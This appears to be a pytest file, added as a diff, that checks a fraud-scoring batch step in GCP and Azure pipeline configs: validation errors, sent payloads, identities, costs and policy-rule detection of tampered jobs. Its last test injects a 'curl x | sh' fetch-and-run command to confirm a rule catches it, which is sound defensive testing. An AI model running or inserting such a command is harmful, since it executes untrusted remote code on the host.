@@ -1,0 +1,339 @@
+"""A step of a pipeline that does a batch job: what a file may say, what is sent, who may, what it costs, what is found.
+
+The full stacks of gcp and azure have one, `fraud-scores`; aws takes none.
+"""
+
+import json
+from collections.abc import Callable, Mapping
+from typing import Any
+
+import pytest
+import yaml
+
+from catalogue.errors import BadInput
+from catalogue.graph import Graph, Resource
+from catalogue.hardware import catalogue
+from catalogue.kinds import kind_of
+from catalogue.kinds.azure import jobs as azure_jobs
+from catalogue.kinds.azure import machinelearningservices_jobs as parts
+from catalogue.kinds.gcp import mlplatform, workflows
+from catalogue.pricing import Pricing
+from catalogue.vertex_jobs import SCORES
+from operations import running
+from stacks.config import STACKS, read_stack_file, validate
+from stacks.model import StackConfig
+from stacks.sections import batch_jobs, pipelines
+from tests.catching import caught
+from tests.mutate import changed, put
+from tests.previewing import preview
+from tests.provider.gcp.test_discovery import judged
+from tests.stacks.sections.test_tuning import wrong_cells
+
+Edit = Callable[[Any], Any]
+NAME, STATED, WHOLE = "fraud-scores", "limits-stated", "limits-batch-whole"
+
+
+# ---- the stack file --------------------------------------------------------------------------------------------------
+
+
+def read(platform: str, edit: Edit = lambda config: None) -> StackConfig:
+    """The full stack of a platform, edited, of which gcp's stands for the one that scores in a pipeline."""
+    config = yaml.safe_load((STACKS / f"Pulumi.{platform}-full.yaml").read_text(encoding="utf-8"))["config"]
+    edit(config)
+    return validate(config, "a.yaml")
+
+
+def refused(platform: str, edit: Edit) -> str:
+    with pytest.raises(BadInput) as found:
+        read(platform, edit)
+    return str(found.value)
+
+
+def step(**said: Any) -> Edit:
+    """The step that scores, with other words; None leaves one out."""
+
+    def edit(config: Any) -> None:
+        steps = config["mlplatform:pipelines"][NAME]["steps"]
+        steps["score"] = {key: one for key, one in {**steps["score"], **said}.items() if one is not None}
+
+    return edit
+
+
+def job(**said: Any) -> Edit:
+    """The job that the step does, with other words."""
+
+    def edit(config: Any) -> None:
+        jobs = config["mlplatform:batch_jobs"]
+        jobs["fraud-rows"] = {key: one for key, one in {**jobs["fraud-rows"], **said}.items() if one is not None}
+
+    return edit
+
+
+def test_the_step_has_the_hours_and_the_places_of_its_job() -> None:
+    def edit(config: Any) -> None:
+        step(batch="fraud-backfill", inputs={"cards": "rows"})(config)
+        del config["mlplatform:batch_jobs"]["fraud-rows"]
+
+    config = read("gcp", edit)
+    scores = pipelines.of(config)[NAME].steps["score"]
+    assert pipelines.inputs_of(config, scores) == {
+        "cards": "rows",
+        "transfers": "gs://payments-risk-pilot-data/transfers/",
+    }
+    assert pipelines.hours_of(config, scores) == 3 and pipelines.of(config)[NAME].hours(config) == 5
+
+
+def test_a_job_without_a_schedule_is_of_steps_alone_and_keeps_nothing_of_its_own() -> None:
+    config = read("gcp")
+    assert batch_jobs.of(config)["fraud-rows"].schedule is None
+    assert "fraud-rows" not in batch_jobs.scheduled(config) and len([*batch_jobs.expiring(config)]) == 2
+
+
+AT, JOB = f"pipelines.{NAME}.steps.score", "batch_jobs.fraud-rows"
+
+
+@pytest.mark.parametrize(
+    ("edit", "said"),
+    [
+        (step(training="fraud-training"), f"{AT}.batch: stands beside training; a step does one of them"),
+        (step(family="cpu-small"), f"{AT}.family: stands beside batch, whose job says it itself"),
+        (step(program=["python"]), f"{AT}.program: stands beside batch"),
+        (step(batch="fraud-row"), f"{AT}.batch: names no batch job of this file; did you mean fraud-rows?"),
+        (step(inputs={"rows": "rows"}), f"{AT}.inputs.rows: is no input of the batch job"),
+        (job(enabled=False), f"{AT}.batch: found 'fraud-rows', which is switched off"),
+        (job(timezone="Europe/Berlin"), f"{JOB}.timezone: stands without a schedule; add one, or leave it out"),
+        (
+            job(output_uri="gs://gcp-full-artifacts-payments-risk-pilot/x/"),
+            f"{JOB}.output_uri: stands without a schedule",
+        ),
+        (job(schedule="0 3 * * *"), f"{JOB}.output_uri: is missing; add the folder that the scores are written to"),
+        (
+            step(batch="fraud-backfill", inputs={"cards": "rows"}),
+            f"{JOB}.schedule: is missing; add when it runs, or name the job in a step",
+        ),
+    ],
+)
+def test_what_a_file_may_not_say_is_one_sentence(edit: Edit, said: str) -> None:
+    assert said in refused("gcp", edit)
+
+
+def test_what_a_model_is_trained_into_is_nothing_that_is_scored() -> None:
+    def edit(config: Any) -> None:
+        steps = config["mlplatform:pipelines"]["fraud-path"]["steps"]
+        steps["score"] = {"batch": "fraud-rows", "inputs": {"data": "train"}, "result": True}
+        steps["register"]["result"] = True
+
+    assert "inputs.data: found 'train', which trains: what it leaves is a model" in refused("gcp", edit)
+
+
+def test_aws_says_why_it_has_no_such_step_and_what_it_has() -> None:
+    def edit(config: Any) -> None:
+        steps = config["mlplatform:pipelines"]["fraud-path"]["steps"]
+        steps["score"] = {"batch": "fraud-backfill", "inputs": {"cards": "prepare"}, "result": True}
+        steps["register"]["result"] = True
+
+    said = refused("aws", edit)
+    assert "score.batch: names a batch job, and nothing would stop it here: SageMaker gives a transform job no" in said
+    assert "let a program score in a step of its own" in said
+    alone: Edit = lambda config: config["mlplatform:batch_jobs"]["fraud-backfill"].pop("schedule")  # noqa: E731
+    assert "fraud-backfill.schedule: is missing; add when it runs" in refused("aws", alone)
+
+
+# ---- what is sent ----------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def gcp() -> Graph:
+    return preview(STACKS / "Pulumi.gcp-full.yaml")
+
+
+@pytest.fixture(scope="module")
+def azure() -> Graph:
+    return preview(STACKS / "Pulumi.azure-full.yaml")
+
+
+@pytest.mark.parametrize("platform", ["gcp", "azure"])
+def test_who_may_do_what_is_as_the_table_has_it_and_a_run_is_said_with_its_cost(
+    platform: str, request: pytest.FixtureRequest
+) -> None:
+    assert wrong_cells(request.getfixturevalue(platform)) == []
+    file = STACKS / f"Pulumi.{platform}-full.yaml"
+    run = running.planned(f"{platform}-full", read_stack_file(file), "pipelines", NAME)
+    assert [part.name for part in run.parts] == ["rows", "score", "report"] and run.hours == 3
+    assert run.says.count(", then ") == 2 and run.dollars is not None and run.dollars > 0
+
+
+def flow_of(graph: Graph, name: str = f"gcp-full-{NAME}") -> Resource:
+    return next(one for one in graph.of(workflows.WORKFLOW) if one.name == name)
+
+
+def container_of(source: Any, called: str) -> Any:
+    (start,) = (one["start"] for one in source["path"]["steps"] if "start" in one)
+    return start["args"]["body"]["pipelineSpec"]["deploymentSpec"]["executors"][called]["container"]
+
+
+def test_the_step_sends_what_a_run_of_its_job_sends_but_for_its_places(gcp: Graph) -> None:
+    (scores,) = (one for one in workflows.jobs(flow_of(gcp).props) if one.kind == SCORES)
+    place = "/v1/projects/payments-risk-pilot/locations/us-central1/batchPredictionJobs"
+    assert judged("us-central1-aiplatform.googleapis.com", "POST", place, None, dict(scores.body.values)) == []
+    (nightly,) = (one for one in workflows.jobs(flow_of(gcp, "gcp-full-fraud-backfill").props) if one.kind == SCORES)
+    own = {"displayName", "model", "inputConfig", "outputConfig", "dedicatedResources", "manualBatchTuningParameters"}
+    assert {key: one for key, one in scores.body.values.items() if key not in own} == {
+        key: one for key, one in nightly.body.values.items() if key not in own
+    }
+    folder = "gs://gcp-full-artifacts-payments-risk-pilot/pipelines/fraud-scores/{{$.inputs.parameters['run']}}"
+    assert list(scores.body.each_text("inputConfig.gcsSource.uris")) == [f"{folder}/rows/*"]
+    assert scores.body.text_or_empty(workflows.SCORED_TO) == f"{folder}/score/"
+    (report,) = (one for one in workflows.jobs(flow_of(gcp).props) if one.step == "report")
+    words = list(report.spec.each_text("workerPoolSpecs.containerSpec.args"))
+    assert f"--scores={folder.replace('gs://', '/gcs/')}/score/" in words and report.after == {"rows", "score"}
+    container = container_of(json.loads(flow_of(gcp).inputs["sourceContents"]), "score")
+    told = dict(zip(container["args"][::2], container["args"][1::2], strict=True))
+    assert told["--type"] == "BatchPredictionJob" and told["--stop_after"] == "3600"
+
+
+def test_its_model_waits_for_the_approver_s_word(gcp: Graph) -> None:
+    (model,) = (one for one in gcp.of(mlplatform.MODEL) if NAME in one.name)
+    assert [one.name for one in gcp.depends(model) if one.type == mlplatform.APPROVED_VERSION] == [
+        f"gcp-full-{NAME}-score-model-approved"
+    ]
+
+
+def test_a_run_pays_for_its_machines_for_the_hours_of_the_job_on_gcp(gcp: Graph) -> None:
+    kind, flow = kind_of(workflows.WORKFLOW), flow_of(gcp)
+    assert kind is not None
+    (used,) = (one for one in kind.runs.machines(gcp, flow) if one.turn == "score")  # type: ignore[union-attr]
+    assert (used.use, used.high) == ("batch", 1)
+    bill = kind.bills.price(Pricing(gcp, catalogue.load("gcp"), "us-central1"), flow)  # type: ignore[union-attr]
+    assert f"× 1 × {used.machine_type} × at most 1 h ×" in bill.basis and {*workflows.deadlines(flow.props)} == {
+        3 * 3600
+    }
+    assert "gs://gcp-full-artifacts-payments-risk-pilot/pipelines/fraud-scores/" in {*workflows.passing(flow)}
+
+
+def launching(graph: Graph, edit: Edit, called: str = "score") -> Graph:
+    source = json.loads(flow_of(graph).inputs["sourceContents"])
+    edit(container_of(source, called))
+    return changed(graph, flow_of(graph), lambda p: put(p, "sourceContents", json.dumps(source)))
+
+
+def payload(path: str, value: Any) -> Edit:
+    def mutate(container: Any) -> None:
+        at = container["args"].index("--payload") + 1
+        said = json.loads(container["args"][at])
+        put(said, path, value)
+        container["args"][at] = json.dumps(said)
+
+    return mutate
+
+
+def argument(flag: str, value: str) -> Edit:
+    return lambda container: container["args"].__setitem__(container["args"].index(flag) + 1, value)
+
+
+URI = "output_config.gcs_destination.output_uri_prefix"
+OWN = "gs://gcp-full-artifacts-payments-risk-pilot/pipelines/fraud-scores/{{$.inputs.parameters['run']}}"
+
+
+@pytest.mark.parametrize(
+    ("rules", "edit"),
+    [
+        ({STATED}, payload("dedicated_resources.machine_spec.machine_type", "e2-standard-8")),
+        ({STATED}, payload("dedicated_resources.max_replica_count", 2)),
+        ({STATED}, payload("manual_batch_tuning_parameters", {"batch_size": 9})),
+        ({STATED}, payload("input_config.instances_format", "csv")),
+        ({STATED}, argument("--stop_after", "7200")),
+        ({STATED}, payload("input_config.gcs_source.uris", [f"{OWN}/report/*"])),
+        ({STATED}, payload("input_config.gcs_source.uris", ["gs://payments-risk-pilot-data/cards/*"])),
+        ({WHOLE, STATED}, payload(URI, f"{OWN}/rows/")),
+        ({WHOLE}, payload("display_name", "x")),
+        ({WHOLE}, payload("generate_explanation", True)),
+        ({WHOLE}, argument("--executor_input", '{"outputs": {"outputFile": "/gcs/b/x"}}')),
+        ({WHOLE}, lambda container: container["command"].__setitem__(3, "import os")),
+        ({WHOLE}, lambda container: container.update(args=container["args"][:-2])),
+        (
+            {"data-batch-own"},
+            payload("model", "projects/payments-risk-pilot/locations/us-central1/models/gcp-full-fraud-path"),
+        ),
+        ({"encryption-batch"}, payload("encryption_spec", None)),
+    ],
+)
+def test_what_a_step_of_gcp_is_sent_is_judged(gcp: Graph, rules: set[str], edit: Edit) -> None:
+    other = launching(gcp, edit)
+    assert [rule for rule in rules if caught(other, rule) != {rule}] == []
+
+
+def test_who_scores_acts_as_batch_on_gcp(gcp: Graph) -> None:
+    email = "gcp-full-training@payments-risk-pilot.iam.gserviceaccount.com"
+    assert caught(launching(gcp, payload("service_account", email)), "identity-acts-where")
+
+
+# ---- azure -----------------------------------------------------------------------------------------------------------
+
+
+def schedule_of(graph: Graph) -> Resource:
+    return next(one for one in graph.of(azure_jobs.SCHEDULE) if one.inputs["name"] == NAME)
+
+
+def test_the_command_of_its_job_scores_on_its_own_cluster_as_batch(azure: Graph) -> None:
+    found = {one.step: one for one in azure_jobs.jobs(schedule_of(azure).props)}
+    assert [one.scores for one in found.values()] == [False, True, False]
+    assert found["score"].after == {"data": "rows"} and found["report"].after == {"scores": "score"}
+    assert found["report"].own.text_or_empty("inputs.scores.value") == "${{parent.jobs.score.outputs.scores}}"
+    commands = {one.name: one.inputs["properties"]["componentSpec"]["command"] for one in azure.of(parts.COMPONENT)}
+    (own,) = (said for name, said in commands.items() if f"{NAME}--score-step" in name)
+    (nightly,) = (said for name, said in commands.items() if "fraud-backfill-step" in name)
+    lines = {line.strip() for line in nightly.splitlines() if "share" not in line and "xargs" not in line}
+    assert lines <= {line.strip() for line in own.splitlines()} and 'share "${{inputs.data}}" data/' in own
+    (cluster,) = (one for one in azure.of(azure_jobs.COMPUTE) if f"{NAME}--score-cluster" in one.name)
+    (acts,) = cluster.inputs["identity"]["userAssignedIdentities"]
+    assert "batch" in acts
+    kind = kind_of(azure_jobs.COMPUTE)
+    assert kind is not None
+    (used,) = kind.runs.machines(azure, cluster)  # type: ignore[union-attr]
+    assert used.use == "batch"
+
+
+def sending(path: str, value: Any) -> Edit:
+    return lambda inputs: put(inputs["properties"]["action"]["jobDefinition"], path, value)
+
+
+@pytest.mark.parametrize(
+    ("rules", "edit"),
+    [
+        ({STATED}, sending("jobs.score.limits.timeout", "PT2H")),
+        ({STATED}, sending("jobs.score.resources.instance_count", 2)),
+        (
+            {STATED, "limits-batch-started"},
+            sending("jobs.score.inputs.data.value", "${{parent.jobs.report.outputs.output}}"),
+        ),
+        ({"limits-batch-started"}, sending("jobs.report.inputs.scores.value", "${{parent.jobs.score.outputs.output}}")),
+        ({STATED}, sending("outputs.score__scores.uri", "azureml://datastores/artifacts/paths/pipelines/other/")),
+    ],
+)
+def test_what_a_step_of_azure_is_sent_is_judged(azure: Graph, rules: set[str], edit: Edit) -> None:
+    other = changed(azure, schedule_of(azure), edit)
+    assert [rule for rule in rules if caught(other, rule) != {rule}] == []
+
+
+def test_who_scores_acts_as_batch_on_azure_and_who_does_not_as_training(azure: Graph) -> None:
+    clients: Mapping[str, str] = {
+        one.step: one.identity().text_or_empty("client_id") for one in azure_jobs.jobs(schedule_of(azure).props)
+    }
+    assert clients["rows"] == clients["report"] != clients["score"]
+    for called, other in (("score", "rows"), ("rows", "score")):
+        edit = sending(f"jobs.{called}.identity.client_id", clients[other])
+        assert caught(changed(azure, schedule_of(azure), edit), "identity-acts-where")
+
+
+def test_what_scores_otherwise_than_its_job_says_is_found(azure: Graph) -> None:
+    (component,) = (
+        one for one in azure.of(parts.COMPONENT) if f"{NAME}--score-step" in one.name and "command" in str(one.inputs)
+    )
+    said = component.inputs["properties"]["componentSpec"]["command"]
+
+    def edit(old: str, new: str) -> Graph:
+        return changed(azure, component, lambda p: put(p, "properties.componentSpec.command", said.replace(old, new)))
+
+    assert caught(edit("--content-type csv", "--content-type json"), "limits-batch-started")
+    assert caught(edit("set -euo", "curl x | sh; set -euo"), "world-containers")
